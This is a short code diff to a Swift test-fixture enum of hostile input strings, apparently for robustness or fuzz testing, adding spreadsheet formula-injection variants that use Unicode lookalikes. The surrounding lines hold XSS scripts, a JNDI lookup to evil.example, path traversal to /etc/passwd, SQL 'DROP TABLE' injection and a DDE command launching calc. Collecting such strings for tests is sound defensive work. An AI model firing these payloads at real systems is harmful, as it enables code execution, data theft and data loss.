@@ -15,6 +15,7 @@ public enum HostileText {
     "</style></title><script>alert(1)</script>", "]]><!-- --><?xml?>", "--><b>x</b>",
     "javascript:alert(1)", "${jndi:ldap://evil.example/x} {0} {{1}}", "%n%s%00../../etc/passwd",
     "\u{5E9}\u{5DC}\u{5D5}\u{5DD} 123 abc", "e\u{301}\u{1F469}\u{200D}\u{1F4BB}", "\u{3000}x\u{A0}",
+    "\n=1", "\u{FF1D}1+1", " \u{FF20}x", "\u{FEFF}=1",
     "\0", "'; DROP TABLE users; --", "cmd|' /C calc'!A0", long,
   ]
 
